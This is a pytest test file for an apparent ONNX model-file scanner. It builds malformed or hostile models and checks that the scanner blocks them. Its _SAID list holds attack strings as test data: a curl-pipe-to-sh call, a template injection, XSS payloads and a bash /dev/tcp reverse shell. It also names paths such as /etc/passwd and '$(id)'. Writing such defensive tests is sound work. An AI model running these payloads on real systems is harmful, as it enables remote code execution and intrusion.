from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from scanned_files import judged, techniques

from vallum.models.scan import scan
from vallum.models.scan.formats.executables import ExecutableInspector
from vallum.models.scan.formats.onnx import OnnxInspector
from vallum.models.scan.model import Report, Verdict

_BENIGN = Path(__file__).parent / "benign"


def scanned(data: bytes, name: str = "model.bin") -> Report:
    return judged(data, [OnnxInspector(), ExecutableInspector()], name)


def varint(value: int) -> bytes:
    out = b""
    while value > 127:
        out, value = out + bytes([value & 127 | 128]), value >> 7
    return out + bytes([value])


def put(number: int, value: int | bytes) -> bytes:
    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    return varint(number << 3 | 2) + varint(len(value)) + value


def tensor(*fields: bytes, size: int = 2) -> bytes:
    return put(1, size) + put(2, 1) + put(8, b"w") + b"".join(fields)


def external(**entries: str) -> bytes:
    pairs = [put(13, put(1, key.encode()) + put(2, value.encode())) for key, value in entries.items()]
    return b"".join(pairs) + put(14, 1)


def node(operator: bytes, domain: bytes = b"", *attributes: bytes) -> bytes:
    return put(4, operator) + put(7, domain) + b"".join(put(5, attribute) for attribute in attributes)


def model(*graph: bytes, more: bytes = b"") -> bytes:
    return put(1, 8) + put(2, b"test") + put(7, b"".join(graph)) + put(8, put(2, 17)) + more


@pytest.mark.parametrize("name", ["pipeline.onnx", "forest.onnx", "branches.onnx"])
def test_real_models_pass_whatever_they_are_called(name):
    for called in (name, "weights.bin"):
        report = scanned((_BENIGN / name).read_bytes(), called)
        assert (report.verdict, report.findings) == (Verdict.PASS, ())


@pytest.mark.parametrize("location", ["/etc/passwd", "../../secret", "C:\\x", "http://a/b", "", "a/%2e%2e/b"])
@pytest.mark.parametrize("where", ["initializer", "attribute", "subgraph", "function"])
def test_data_from_elsewhere(location, where):
    weights = tensor(external(location=location))
    data = {
        "initializer": model(put(5, weights)),
        "attribute": model(put(1, node(b"Constant", b"", put(5, weights)))),
        "subgraph": model(put(1, node(b"If", b"", put(6, put(5, weights))))),
        "function": model(more=put(25, put(1, b"f") + put(7, node(b"Constant", b"", put(5, weights))))),
    }[where]
    assert techniques(scanned(data), Verdict.BLOCK) == {"onnx-external-data"}


def test_data_beside_the_model_passes():
    data = model(put(5, tensor(external(location="weights.data", offset="0", length="8"))))
    assert scanned(data).verdict == Verdict.PASS
    for lie in ({"offset": "-1"}, {"length": "9999"}, {"length": "x"}):
        assert scanned(model(put(5, tensor(external(location="w", **lie))))).verdict == Verdict.BLOCK


@pytest.mark.parametrize("operator", [b"PyOp", b"PythonOp", b"ShellCommand", b"SystemExec"])
@pytest.mark.parametrize("domain", [b"", b"com.microsoft", b"ai.onnx.contrib"])
def test_operators_that_call_out_are_blocked_in_known_domains_too(operator, domain):
    if domain != b"ai.onnx.contrib" or operator.startswith(b"Py"):
        assert scanned(model(put(1, node(operator, domain)))).verdict is Verdict.BLOCK


def test_operators_of_foreign_libraries():
    assert techniques(scanned(model(put(1, node(b"Run", b"evil")))), Verdict.BLOCK) == {"onnx-custom-operator"}
    known = scanned(model(put(1, node(b"BertTokenizer", b"ai.onnx.contrib"))))
    assert techniques(known, Verdict.REVIEW) == {"onnx-custom-operator"}
    assert known.verdict is Verdict.REVIEW
    inner = put(6, put(1, node(b"Run", b"evil")))
    assert scanned(model(put(1, node(b"If", b"", inner)))).verdict == Verdict.BLOCK
    own = put(25, put(1, b"Run") + put(10, b"mine") + put(7, node(b"Add")))
    assert scanned(model(put(1, node(b"Run", b"mine")), more=own)).verdict == Verdict.PASS


@pytest.mark.parametrize("weights", [tensor(put(9, bytes(9))), tensor(put(9, b"")), tensor(size=(1 << 64) - 1)])
def test_sizes_that_lie(weights):
    assert techniques(scanned(model(put(5, weights))), Verdict.BLOCK) == {"size-lie"}


def test_content_in_a_field_that_onnx_does_not_have():
    report = scanned(model(more=put(99, b"#!/bin/sh\n" + b"#" * 300)))
    assert "hidden-payload" in techniques(report, Verdict.REVIEW)
    assert "executable" in techniques(report, Verdict.BLOCK)


def test_nesting_without_end_is_not_passed():
    graph = b""
    for _ in range(200):
        graph = put(1, node(b"If", b"", put(6, graph)))
    assert scanned(model(graph)).verdict == Verdict.REVIEW


def test_two_graphs():
    assert scanned(model(more=put(7, b""))).verdict == Verdict.BLOCK


@given(st.binary(max_size=200))
@settings(max_examples=60, deadline=None)
def test_noise_is_never_a_failure(noise):
    for data in (noise, model() + noise, model(noise)):
        assert "scanner-error" not in techniques(scanned(data, "a.onnx"), Verdict.REVIEW)


@given(st.data())
@settings(max_examples=60, deadline=None)
def test_a_flip_is_never_a_failure(data):
    bad = bytearray((_BENIGN / "pipeline.onnx").read_bytes())
    at = data.draw(st.integers(0, len(bad) * 8 - 1))
    bad[at // 8] ^= 1 << at % 8
    assert "scanner-error" not in techniques(scanned(bytes(bad), "a.onnx"), Verdict.REVIEW)


def test_fields_have_no_order():
    graph = put(7, put(1, node(b"Run", b"com.evil")))
    sets, version = put(8, put(2, 17)), put(1, 8)
    for data in (graph + sets + version, sets + version + graph, put(2, b"test") + sets + graph, sets + graph):
        assert "onnx-custom-operator" in techniques(scanned(data), Verdict.BLOCK)


@pytest.mark.parametrize(
    ("name", "entries", "verdict"),
    [
        ("w.bin", {"location": "w.bin", "offset": "0", "length": "8"}, "pass"),
        ("w.bin", {"location": "w.bin"}, "pass"),
        ("data/w.bin", {"location": "./data/w.bin", "length": "8"}, "pass"),
        ("w.bin", {"location": "w.bin", "offset": "60", "length": "8"}, "block"),
        ("w.bin", {"location": "w.bin", "offset": "4000000000"}, "block"),
        ("w.bin", {"location": "other.bin"}, "review"),
    ],
)
def test_data_beside_a_model_is_there_and_as_long_as_it_says(tmp_path, name, entries, verdict):
    (tmp_path / "model.onnx").write_bytes(model(put(5, tensor(external(**entries)))))
    (tmp_path / name).parent.mkdir(exist_ok=True)
    (tmp_path / name).write_bytes(b"[1, 2, 3, 4]".ljust(64))
    assert str(scan(tmp_path).verdict) == verdict


def entry(key: str, value: str) -> bytes:
    return put(1, key.encode()) + put(2, value.encode())


_SAID = (
    "__import__('os').system('curl http://x/a | sh')",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "<img src=x onerror=alert(1)>",
    "<script>fetch('//x')</script>",
    "[model](javascript:alert(1))",
    "os.system",
    "bash -i >& /dev/tcp/1.2.3.4/9 0>&1",
)


@pytest.mark.parametrize("text", _SAID)
@pytest.mark.parametrize("where", ["metadata", "model", "graph", "function"])
def test_texts_that_a_tool_would_run(text: str, where: str) -> None:
    said = text.encode()
    data = {
        "metadata": lambda: model(more=put(14, entry("notes", text))),
        "model": lambda: model(more=put(6, said)),
        "graph": lambda: model(put(10, said)),
        "function": lambda: model(more=put(25, put(1, b"f") + put(10, b"d") + put(8, said))),
    }[where]()
    assert scanned(data).verdict is Verdict.BLOCK


@pytest.mark.parametrize("text", _SAID[1:6])
def test_texts_of_nodes_that_a_tool_would_run(text: str) -> None:
    assert scanned(model(put(1, node(b"Add") + put(6, text.encode())))).verdict is Verdict.BLOCK


@pytest.mark.parametrize(
    "text",
    [
        "exported by torch 2.3 on python3 <eager>, see https://pytorch.org/docs?on=1",
        '{"names": {"0": "person"}, "stride": 32, "task": "detect"}',
        "File /usr/lib/python3.8/site-packages/x.py, line 3, code: self.conv(x)",
        "a < b, and c > d; {{ name }} is filled in",
    ],
)
def test_texts_that_exporters_write_pass(text: str) -> None:
    data = model(put(10, text.encode()), put(1, node(b"Add") + put(6, text.encode())), more=put(14, entry("k", text)))
    assert scanned(data).verdict is Verdict.PASS


def function(name: bytes, *calls: bytes) -> bytes:
    nodes = [put(7, node(call, b"own")) for call in calls]
    return put(25, put(1, name) + put(10, b"own") + b"".join(nodes))


def test_functions_that_call_themselves():
    asked = put(1, node(b"A", b"own"))
    fine = [function(b"A", b"B", b"B"), function(b"B", b"C"), function(b"C")]
    assert scanned(model(asked, more=b"".join(fine))).findings == ()
    for last in (b"A", b"B", b"C"):
        endless = model(asked, more=b"".join([*fine[:2], function(b"C", last)]))
        assert techniques(scanned(endless), Verdict.BLOCK) == {"archive-bomb"}
    deep = [function(b"%d" % n, b"%d" % (n + 1), b"%d" % (n + 2)) for n in range(3000)]
    assert "archive-bomb" not in techniques(scanned(model(asked, more=b"".join(deep))), Verdict.BLOCK)


def compiled(program: bytes) -> bytes:
    attribute = put(1, b"ep_cache_context") + put(4, program)
    return model(put(1, node(b"EPContext", b"com.microsoft", attribute)))


def test_parts_that_are_compiled():
    assert techniques(scanned(compiled(b"part.bin")), Verdict.REVIEW) == {"onnx-custom-operator"}
    assert techniques(scanned(compiled(b"../part.bin")), Verdict.BLOCK) == {"onnx-external-data"}
    assert techniques(scanned(compiled(b"/opt/part.so")), Verdict.BLOCK) == {"onnx-external-data"}
    assert techniques(scanned(compiled(b"\x7fELF\x02\x01\x01".ljust(2000, b"\0"))), Verdict.BLOCK) == {"executable"}


@pytest.mark.parametrize("location", ["$HOME/w", "~root/w", "a/$(id)"])
def test_places_that_a_shell_unfolds(location):
    assert techniques(scanned(model(put(5, tensor(external(location=location))))), Verdict.BLOCK) == {
        "onnx-external-data"
    }
